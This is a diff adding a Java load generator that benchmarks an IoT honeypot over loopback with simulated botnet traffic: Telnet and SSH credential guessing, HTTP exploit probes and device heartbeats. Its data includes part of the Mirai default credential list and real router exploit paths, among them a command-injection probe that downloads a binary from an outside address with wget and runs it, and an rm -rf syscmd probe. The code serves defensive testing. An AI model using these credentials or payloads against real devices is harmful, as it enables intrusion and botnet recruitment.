@@ -0,0 +1,632 @@
+package com.iot.honeypot.benchmarks;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.SerializationFeature;
+import com.jcraft.jsch.JSch;
+import com.jcraft.jsch.JSchException;
+import com.jcraft.jsch.SocketFactory;
+import java.io.BufferedReader;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.InputStreamReader;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.net.URI;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.DirectoryStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.concurrent.atomic.LongAdder;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+/**
+ * Botnet-style load against a locally started backend: Telnet credential
+ * stuffing on 2323, exploit probes on 8081, SSH password guessing on 2222
+ * and {@code /iot} heartbeats
+ * against the frontend {@code HoneypotServer}, all over loopback. Reports
+ * accepted connections per second, p50/p99/p999 time-to-banner and
+ * time-to-log, dropped connections and the server's resident memory.
+ *
+ * <pre>
+ * java -cp target/benchmarks.jar com.iot.honeypot.benchmarks.AttackTrafficGenerator [--option value...]
+ *
+ *   --duration 30         seconds to generate traffic for
+ *   --telnet 64           concurrent Telnet sessions (0 to skip)
+ *   --http 64             concurrent HTTP probes (0 to skip)
+ *   --ssh 0               concurrent SSH logins (0 to skip)
+ *   --iot 16              simulated devices sending heartbeats (0 to skip)
+ *   --heartbeat-ms 1000   interval between one device's heartbeats
+ *   --host 127.0.0.1      honeypot address
+ *   --telnet-port 2323
+ *   --http-port 8081
+ *   --ssh-port 2222
+ *   --iot-url http://127.0.0.1:8080/iot
+ *   --api-url http://127.0.0.1:8080   backend REST API, "none" to skip time-to-log
+ *   --sources 4096        distinct 127.1.x.y source addresses, 1 to use the default
+ *   --await-reply false   read each session until the server closes it
+ *   --server-pid auto     process to sample RSS from, found by its Telnet port
+ *   --json path           also write the report as JSON
+ * </pre>
+ *
+ * Time-to-banner runs from connect to the login prompt (Telnet), the first
+ * response byte (HTTP), the failed login after the key exchange (SSH) or
+ * the full heartbeat response. Time-to-log runs
+ * from sending the last credential or the request (SSH: from connect) until
+ * the attack arrives on the live feed, so it includes the feed's tick. Each session is tagged
+ * {@code lg=<id>} in its password or path to match it to its feed event.
+ * <p>
+ * Admission control still applies: every source address is rate-limited on
+ * its own, so keep the per-address rate under the configured budget or
+ * disable it to measure raw capacity. The frontend server and the backend
+ * both default to port 8080; move one of them ({@code --server.port=8090}
+ * for the backend) and point {@code --api-url} or {@code --iot-url} at it.
+ * Source addresses other than 127.0.0.1 need Linux, which routes all of
+ * 127/8 to loopback.
+ */
+public class AttackTrafficGenerator {
+    private static final int TIMEOUT_MILLIS = 10_000;
+    private static final Pattern TAG = Pattern.compile("lg=(\\d+)");
+    
+    // A slice of the Mirai default credential list
+    private static final String[][] CREDENTIALS = {
+        {"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"},
+        {"root", "xmhdipc"}, {"root", "default"}, {"root", "juantech"}, {"root", "123456"},
+        {"root", "54321"}, {"support", "support"}, {"root", ""}, {"admin", "password"},
+        {"root", "root"}, {"root", "12345"}, {"user", "user"}, {"admin", "smcadmin"},
+        {"root", "klv123"}, {"Administrator", "admin"}, {"service", "service"}, {"guest", "12345"},
+        {"ubnt", "ubnt"}, {"root", "Zte521"}, {"root", "hi3518"}, {"root", "anko"},
+        {"root", "7ujMko0admin"}, {"root", "realtek"}, {"admin", "1234"}, {"admin", "meinsm"},
+    };
+    
+    private static final String[][] PROBES = {
+        {"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/jaws;sh+/tmp/jaws"},
+        {"POST", "/GponForm/diag_Form?images/"},
+        {"GET", "/cgi-bin/luci/;stok=/locale?form=country"},
+        {"GET", "/boaform/admin/formLogin?username=admin&psd=admin"},
+        {"POST", "/HNAP1/"},
+        {"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"},
+        {"POST", "/picsdesc.xml"},
+        {"GET", "/login.html"},
+        {"GET", "/.env"},
+        {"GET", "/"},
+    };
+    
+    private static final String[] USER_AGENTS = {
+        "Hello, World",
+        "Mozila/5.0",
+        "Hello World",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "curl/7.88.1",
+        "Wget(linux)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    };
+    
+    private static final String[] DEVICES = {
+        "Smart Light", "Security Camera", "Thermostat", "Door Lock", "Weather Sensor",
+    };
+    
+    private final Map<String, String> options;
+    private final String host;
+    private final int sourceCount;
+    private final InetAddress[] sources;
+    private final boolean awaitReply;
+    private final Target telnet = new Target("telnet");
+    private final Target http = new Target("http");
+    private final Target ssh = new Target("ssh");
+    private final Target iot = new Target("iot");
+    private final JSch jsch = new JSch();
+    private final AtomicLong nextId = new AtomicLong();
+    private final Map<Long, Sent> awaitingLog = new ConcurrentHashMap<>();
+    private volatile long deadline;
+    
+    private AttackTrafficGenerator(Map<String, String> options) throws IOException {
+        this.options = options;
+        this.host = option("host", "127.0.0.1");
+        this.sourceCount = Math.max(1, Math.min(65_000, intOption("sources", 4096)));
+        this.sources = new InetAddress[sourceCount];
+        for (int i = 0; i < sourceCount; i++) {
+            int s = i + 1;
+            sources[i] = InetAddress.getByAddress(new byte[] {127, 1, (byte) (s >> 8), (byte) s});
+        }
+        this.awaitReply = Boolean.parseBoolean(option("await-reply", "false"));
+    }
+    
+    public static void main(String[] args) throws Exception {
+        Map<String, String> options = new HashMap<>();
+        for (int i = 0; i + 1 < args.length; i += 2) {
+            if (!args[i].startsWith("--")) {
+                throw new IllegalArgumentException("expected --option value, got " + args[i]);
+            }
+            options.put(args[i].substring(2), args[i + 1]);
+        }
+        new AttackTrafficGenerator(options).run();
+    }
+    
+    private void run() throws Exception {
+        int duration = intOption("duration", 30);
+        int telnetWorkers = intOption("telnet", 64);
+        int httpWorkers = intOption("http", 64);
+        int sshWorkers = intOption("ssh", 0);
+        int iotDevices = intOption("iot", 16);
+        long serverPid = option("server-pid", "auto").equals("auto")
+                ? findListeningPid(intOption("telnet-port", 2323)) : Long.parseLong(option("server-pid", "-1"));
+        
+        FeedFollower feed = option("api-url", "http://127.0.0.1:8080").equals("none") ? null : new FeedFollower();
+        if (feed != null) feed.start();
+        RssSampler rss = new RssSampler(serverPid);
+        rss.start();
+        
+        int workers = telnetWorkers + httpWorkers + sshWorkers + iotDevices;
+        ExecutorService pool = Executors.newFixedThreadPool(Math.max(1, workers));
+        long started = System.nanoTime();
+        deadline = started + TimeUnit.SECONDS.toNanos(duration);
+        for (int i = 0; i < telnetWorkers; i++) {
+            pool.execute(() -> loop(this::telnetSession));
+        }
+        for (int i = 0; i < httpWorkers; i++) {
+            pool.execute(() -> loop(this::httpProbe));
+        }
+        for (int i = 0; i < sshWorkers; i++) {
+            pool.execute(() -> loop(this::sshLogin));
+        }
+        for (int i = 0; i < iotDevices; i++) {
+            String device = DEVICES[i % DEVICES.length];
+            pool.execute(() -> heartbeats(device));
+        }
+        pool.shutdown();
+        pool.awaitTermination(duration + 60L, TimeUnit.SECONDS);
+        double seconds = (System.nanoTime() - started) / 1e9;
+        
+        // Give the feed a moment to deliver events for the last sessions
+        long grace = System.nanoTime() + TimeUnit.SECONDS.toNanos(2);
+        while (feed != null && !awaitingLog.isEmpty() && System.nanoTime() < grace) {
+            Thread.sleep(50);
+        }
+        if (feed != null) feed.stop();
+        rss.stop();
+        report(duration, seconds, serverPid, feed, rss);
+    }
+    
+    private void loop(Runnable session) {
+        while (System.nanoTime() < deadline) {
+            session.run();
+        }
+    }
+    
+    private void telnetSession() {
+        long id = nextId.incrementAndGet();
+        String[] credential = CREDENTIALS[(int) (id % CREDENTIALS.length)];
+        long start = System.nanoTime();
+        try (Socket socket = open(intOption("telnet-port", 2323), id)) {
+            telnet.connected.increment();
+            InputStream in = socket.getInputStream();
+            OutputStream out = socket.getOutputStream();
+            if (!readUntil(in, "ogin: ")) {
+                telnet.dropped.increment();
+                return;
+            }
+            telnet.banner.record(System.nanoTime() - start);
+            out.write((credential[0] + "\r\n").getBytes(StandardCharsets.US_ASCII));
+            if (!readUntil(in, "assword: ")) {
+                telnet.dropped.increment();
+                return;
+            }
+            awaitingLog.put(id, new Sent(telnet, System.nanoTime()));
+            out.write((credential[1] + "!lg=" + id + "\r\n").getBytes(StandardCharsets.US_ASCII));
+            // The honeypot keeps the session open for another guess; the record is logged when we hang up
+            if (awaitReply) readUntil(in, "ogin: ");
+            telnet.completed.increment();
+        } catch (IOException e) {
+            telnet.dropped.increment();
+        }
+    }
+    
+    private void httpProbe() {
+        long id = nextId.incrementAndGet();
+        String[] probe = PROBES[(int) (id % PROBES.length)];
+        String path = probe[1] + (probe[1].indexOf('?') < 0 ? "?" : "&") + "lg=" + id;
+        int port = intOption("http-port", 8081);
+        String request = probe[0] + " " + path + " HTTP/1.1\r\n" +
+                "Host: " + host + ":" + port + "\r\n" +
+                "User-Agent: " + USER_AGENTS[(int) (id % USER_AGENTS.length)] + "\r\n" +
+                "Accept: */*\r\n" +
+                (probe[0].equals("POST") ? "Content-Length: 0\r\n" : "") +
+                "Connection: close\r\n\r\n";
+        long start = System.nanoTime();
+        try (Socket socket = open(port, id)) {
+            http.connected.increment();
+            awaitingLog.put(id, new Sent(http, System.nanoTime()));
+            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
+            InputStream in = socket.getInputStream();
+            if (in.read() < 0) {
+                http.dropped.increment();
+                return;
+            }
+            http.banner.record(System.nanoTime() - start);
+            if (awaitReply) drain(in);
+            http.completed.increment();
+        } catch (IOException e) {
+            http.dropped.increment();
+        }
+    }
+    
+    /** One password guess over a real SSH client: version exchange, key exchange, then a failed login. */
+    private void sshLogin() {
+        long id = nextId.incrementAndGet();
+        String[] credential = CREDENTIALS[(int) (id % CREDENTIALS.length)];
+        int port = intOption("ssh-port", 2222);
+        long start = System.nanoTime();
+        com.jcraft.jsch.Session session = null;
+        try {
+            session = jsch.getSession(credential[0], host, port);
+            session.setPassword(credential[1] + "!lg=" + id);
+            session.setConfig("StrictHostKeyChecking", "no");
+            session.setConfig("PreferredAuthentications", "password");
+            session.setSocketFactory(new SocketFactory() {
+                @Override
+                public Socket createSocket(String host, int port) throws IOException {
+                    Socket socket = open(port, id);
+                    ssh.connected.increment();
+                    awaitingLog.put(id, new Sent(ssh, System.nanoTime()));
+                    return socket;
+                }
+                
+                @Override
+                public InputStream getInputStream(Socket socket) throws IOException {
+                    return socket.getInputStream();
+                }
+                
+                @Override
+                public OutputStream getOutputStream(Socket socket) throws IOException {
+                    return socket.getOutputStream();
+                }
+            });
+            session.connect(TIMEOUT_MILLIS);
+            // The honeypot never lets anyone in
+            ssh.dropped.increment();
+        } catch (JSchException e) {
+            if (e.getMessage() != null && e.getMessage().startsWith("Auth fail")) {
+                ssh.banner.record(System.nanoTime() - start);
+                ssh.completed.increment();
+            } else {
+                ssh.dropped.increment();
+            }
+        } finally {
+            if (session != null) session.disconnect();
+        }
+    }
+    
+    /** One simulated device: a heartbeat every interval until the deadline, timed to the full response. */
+    private void heartbeats(String device) {
+        URI url = URI.create(option("iot-url", "http://127.0.0.1:8080/iot"));
+        int port = url.getPort() > 0 ? url.getPort() : 80;
+        long interval = TimeUnit.MILLISECONDS.toNanos(intOption("heartbeat-ms", 1000));
+        String query = "?device=" + URLEncoder.encode(device, StandardCharsets.UTF_8) + "&action=heartbeat";
+        long next = System.nanoTime();
+        while (next < deadline) {
+            long start = System.nanoTime();
+            try (Socket socket = new Socket()) {
+                socket.connect(new InetSocketAddress(url.getHost(), port), TIMEOUT_MILLIS);
+                socket.setSoTimeout(TIMEOUT_MILLIS);
+                iot.connected.increment();
+                socket.getOutputStream().write(("GET " + url.getRawPath() + query + " HTTP/1.1\r\n" +
+                        "Host: " + url.getHost() + ":" + port + "\r\n" +
+                        "Connection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
+                String response = drain(socket.getInputStream());
+                if (response.startsWith("HTTP/1.1 200")) {
+                    iot.banner.record(System.nanoTime() - start);
+                    iot.completed.increment();
+                } else {
+                    iot.dropped.increment();
+                }
+            } catch (IOException e) {
+                iot.dropped.increment();
+            }
+            next += interval;
+            long sleep = next - System.nanoTime();
+            if (sleep > 0) {
+                try {
+                    TimeUnit.NANOSECONDS.sleep(sleep);
+                } catch (InterruptedException e) {
+                    return;
+                }
+            }
+        }
+    }
+    
+    private Socket open(int port, long id) throws IOException {
+        Socket socket = new Socket();
+        try {
+            if (sourceCount > 1) {
+                socket.bind(new InetSocketAddress(sources[(int) (id % sourceCount)], 0));
+            }
+            socket.connect(new InetSocketAddress(host, port), TIMEOUT_MILLIS);
+            socket.setSoTimeout(TIMEOUT_MILLIS);
+            socket.setTcpNoDelay(true);
+            return socket;
+        } catch (IOException e) {
+            socket.close();
+            throw e;
+        }
+    }
+    
+    /** Reads until {@code marker} shows up; false if the server closed first. */
+    private static boolean readUntil(InputStream in, String marker) throws IOException {
+        byte[] buffer = new byte[4096];
+        StringBuilder seen = new StringBuilder();
+        while (seen.length() < 65_536) {
+            int n = in.read(buffer);
+            if (n < 0) return false;
+            seen.append(new String(buffer, 0, n, StandardCharsets.ISO_8859_1));
+            if (seen.indexOf(marker) >= 0) return true;
+        }
+        return false;
+    }
+    
+    /** Reads until the server closes the connection, keeping the first 4 KB. */
+    private static String drain(InputStream in) throws IOException {
+        byte[] buffer = new byte[4096];
+        StringBuilder kept = new StringBuilder();
+        int n;
+        while ((n = in.read(buffer)) >= 0) {
+            if (kept.length() < 4096) kept.append(new String(buffer, 0, n, StandardCharsets.ISO_8859_1));
+        }
+        return kept.toString();
+    }
+    
+    private void report(int duration, double seconds, long serverPid, FeedFollower feed, RssSampler rss) throws IOException {
+        System.out.printf("duration=%ds sources=%d await_reply=%s server_pid=%s feed=%s%n", duration, sourceCount,
+                awaitReply, serverPid > 0 ? serverPid : "not found", feed == null ? "off" : feed.status);
+        System.out.printf("%-7s %12s %10s %8s %11s %11s %12s %9s %9s %10s %10s%n", "target", "connects/sec",
+                "completed", "dropped", "banner_p50", "banner_p99", "banner_p999", "log_p50", "log_p99", "log_p999", "logs_seen");
+        
+        Map<String, Object> json = new LinkedHashMap<>();
+        json.put("durationSeconds", duration);
+        json.put("sources", sourceCount);
+        json.put("awaitReply", awaitReply);
+        Map<String, Object> targets = new LinkedHashMap<>();
+        for (Target target : List.of(telnet, http, ssh, iot)) {
+            double rate = target.connected.sum() / seconds;
+            System.out.printf("%-7s %12.0f %10d %8d %11s %11s %12s %9s %9s %10s %10s%n", target.name, rate,
+                    target.completed.sum(), target.dropped.sum(),
+                    millis(target.banner, 0.5), millis(target.banner, 0.99), millis(target.banner, 0.999),
+                    millis(target.logged, 0.5), millis(target.logged, 0.99), millis(target.logged, 0.999),
+                    target == iot || feed == null ? "-" : Integer.toString(target.logged.count()));
+            targets.put(target.name, target.toJson(rate));
+        }
+        json.put("targets", targets);
+        
+        long missing = awaitingLog.size();
+        if (feed != null && missing > 0) {
+            System.out.printf("%d sessions never showed up on the feed (dropped by the feed or not logged)%n", missing);
+        }
+        json.put("logsMissing", feed == null ? null : missing);
+        if (rss.samples > 0) {
+            System.out.printf("server rss: start %.1f MB, peak %.1f MB, end %.1f MB%n",
+                    rss.first / 1048576.0, rss.peak / 1048576.0, rss.last / 1048576.0);
+            json.put("serverRssMb", Map.of("start", rss.first / 1048576.0, "peak", rss.peak / 1048576.0, "end", rss.last / 1048576.0));
+        }
+        
+        String path = options.get("json");
+        if (path != null) {
+            Path file = Path.of(path);
+            if (file.getParent() != null) Files.createDirectories(file.getParent());
+            new ObjectMapper().enable(SerializationFeature.INDENT_OUTPUT).writeValue(file.toFile(), json);
+            System.out.println("Report written to " + file.toAbsolutePath());
+        }
+    }
+    
+    private static String millis(LatencyRecorder recorder, double q) {
+        return recorder.count() == 0 ? "-" : String.format("%.2f", recorder.percentileMillis(q));
+    }
+    
+    /**
+     * The process holding {@code port} open in LISTEN state, found by matching
+     * the socket inode from /proc/net against every process's descriptors, or
+     * -1 if none is visible.
+     */
+    private static long findListeningPid(int port) {
+        String localPort = String.format(":%04X", port);
+        String inode = null;
+        for (String table : new String[] {"/proc/net/tcp", "/proc/net/tcp6"}) {
+            try {
+                for (String line : Files.readAllLines(Path.of(table))) {
+                    String[] fields = line.trim().split("\\s+");
+                    if (fields.length > 9 && fields[1].endsWith(localPort) && fields[3].equals("0A")) {
+                        inode = fields[9];
+                    }
+                }
+            } catch (IOException e) {
+                // Not Linux, or no IPv6
+            }
+        }
+        if (inode == null) return -1;
+        String target = "socket:[" + inode + "]";
+        try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
+            for (Path process : processes) {
+                try (DirectoryStream<Path> descriptors = Files.newDirectoryStream(process.resolve("fd"))) {
+                    for (Path descriptor : descriptors) {
+                        if (target.equals(Files.readSymbolicLink(descriptor).toString())) {
+                            return Long.parseLong(process.getFileName().toString());
+                        }
+                    }
+                } catch (IOException e) {
+                    // Exited, or not ours to look at
+                }
+            }
+        } catch (IOException e) {
+            return -1;
+        }
+        return -1;
+    }
+    
+    private String option(String name, String fallback) {
+        return options.getOrDefault(name, fallback);
+    }
+    
+    private int intOption(String name, int fallback) {
+        String value = options.get(name);
+        return value == null ? fallback : Integer.parseInt(value);
+    }
+    
+    private static final class Target {
+        final String name;
+        final LongAdder connected = new LongAdder();
+        final LongAdder completed = new LongAdder();
+        final LongAdder dropped = new LongAdder();
+        final LatencyRecorder banner = new LatencyRecorder();
+        final LatencyRecorder logged = new LatencyRecorder();
+        
+        Target(String name) {
+            this.name = name;
+        }
+        
+        Map<String, Object> toJson(double connectsPerSecond) {
+            Map<String, Object> json = new LinkedHashMap<>();
+            json.put("connectsPerSecond", connectsPerSecond);
+            json.put("completed", completed.sum());
+            json.put("dropped", dropped.sum());
+            json.put("bannerMillis", percentiles(banner));
+            json.put("logMillis", percentiles(logged));
+            json.put("logsSeen", logged.count());
+            return json;
+        }
+        
+        private static Map<String, Object> percentiles(LatencyRecorder recorder) {
+            if (recorder.count() == 0) return null;
+            Map<String, Object> json = new LinkedHashMap<>();
+            json.put("p50", recorder.percentileMillis(0.5));
+            json.put("p99", recorder.percentileMillis(0.99));
+            json.put("p999", recorder.percentileMillis(0.999));
+            return json;
+        }
+    }
+    
+    private static final class Sent {
+        final Target target;
+        final long nanos;
+        
+        Sent(Target target, long nanos) {
+            this.target = target;
+            this.nanos = nanos;
+        }
+    }
+    
+    /** Follows the backend's coalesced SSE feed and times each tagged session to its event. */
+    private final class FeedFollower implements Runnable {
+        private final Thread thread = new Thread(this, "feed-follower");
+        private volatile HttpURLConnection connection;
+        private volatile boolean stopped;
+        volatile String status = "connecting";
+        
+        void start() throws InterruptedException {
+            thread.setDaemon(true);
+            thread.start();
+            // Sessions logged before the subscription lands would never be matched
+            long wait = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
+            while (status.equals("connecting") && System.nanoTime() < wait) {
+                Thread.sleep(10);
+            }
+        }
+        
+        void stop() {
+            stopped = true;
+            HttpURLConnection current = connection;
+            if (current != null) current.disconnect();
+        }
+        
+        @Override
+        public void run() {
+            try {
+                URI feed = URI.create(option("api-url", "http://127.0.0.1:8080") + "/api/attacks/feed?coalesce=true");
+                connection = (HttpURLConnection) feed.toURL().openConnection();
+                connection.setReadTimeout(0);
+                BufferedReader in = new BufferedReader(
+                        new InputStreamReader(connection.getInputStream(), StandardCharsets.UTF_8));
+                status = "subscribed";
+                String line;
+                while (!stopped && (line = in.readLine()) != null) {
+                    if (!line.startsWith("data:")) continue;
+                    long now = System.nanoTime();
+                    Matcher tag = TAG.matcher(line);
+                    while (tag.find()) {
+                        Sent sent = awaitingLog.remove(Long.parseLong(tag.group(1)));
+                        if (sent != null) sent.target.logged.record(now - sent.nanos);
+                    }
+                }
+            } catch (IOException e) {
+                if (!stopped) status = "failed (" + e.getMessage() + ")";
+            }
+        }
+    }
+    
+    /** Samples the server's VmRSS every 250 ms, keeping the first, last and peak values. */
+    private static final class RssSampler implements Runnable {
+        private final Path status;
+        private final Thread thread = new Thread(this, "rss-sampler");
+        private volatile boolean stopped;
+        long first;
+        long last;
+        long peak;
+        int samples;
+        
+        RssSampler(long pid) {
+            this.status = pid > 0 ? Path.of("/proc", Long.toString(pid), "status") : null;
+        }
+        
+        void start() {
+            if (status == null) return;
+            thread.setDaemon(true);
+            thread.start();
+        }
+        
+        void stop() throws InterruptedException {
+            stopped = true;
+            if (status != null) thread.join();
+        }
+        
+        @Override
+        public void run() {
+            while (!stopped) {
+                sample();
+                try {
+                    Thread.sleep(250);
+                } catch (InterruptedException e) {
+                    return;
+                }
+            }
+            sample();
+        }
+        
+        private void sample() {
+            try {
+                for (String line : Files.readAllLines(status)) {
+                    if (line.startsWith("VmRSS:")) {
+                        long rss = Long.parseLong(line.substring(6).trim().split("\\s+")[0]) * 1024;
+                        if (samples++ == 0) first = rss;
+                        last = rss;
+                        peak = Math.max(peak, rss);
+                        return;
+                    }
+                }
+            } catch (IOException e) {
+                // Server exited
+            }
+        }
+    }
+}
\ No newline at end of file